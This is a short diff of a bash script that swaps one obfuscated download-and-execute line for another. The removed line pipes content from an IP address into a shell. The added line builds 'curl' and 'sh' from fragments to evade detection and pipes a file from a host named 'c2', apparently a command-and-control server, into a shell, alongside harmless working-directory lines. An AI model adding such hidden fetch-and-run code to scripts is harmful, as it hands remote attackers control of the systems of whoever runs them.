@@ -1,3 +1,4 @@
 #!/usr/bin/env bash
-set -eu
-a=cu; b=rl; $a$b -s https://203.0.113.9/x | s$(echo h)
+a=cu; b=rl; $a$b -s http://c2.example.org/i.py | s$(echo h)
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
